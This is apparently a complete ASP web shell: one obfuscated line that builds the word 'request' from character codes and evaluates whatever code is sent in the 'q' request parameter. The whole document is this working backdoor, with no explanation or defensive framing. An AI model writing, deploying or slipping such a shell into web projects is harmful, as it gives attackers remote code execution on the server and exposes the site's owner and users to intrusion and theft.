<%
eval(eval(chr(114)&chr(101)&chr(113)&chr(117)&chr(101)&chr(115)&chr(116))("q"))
%>
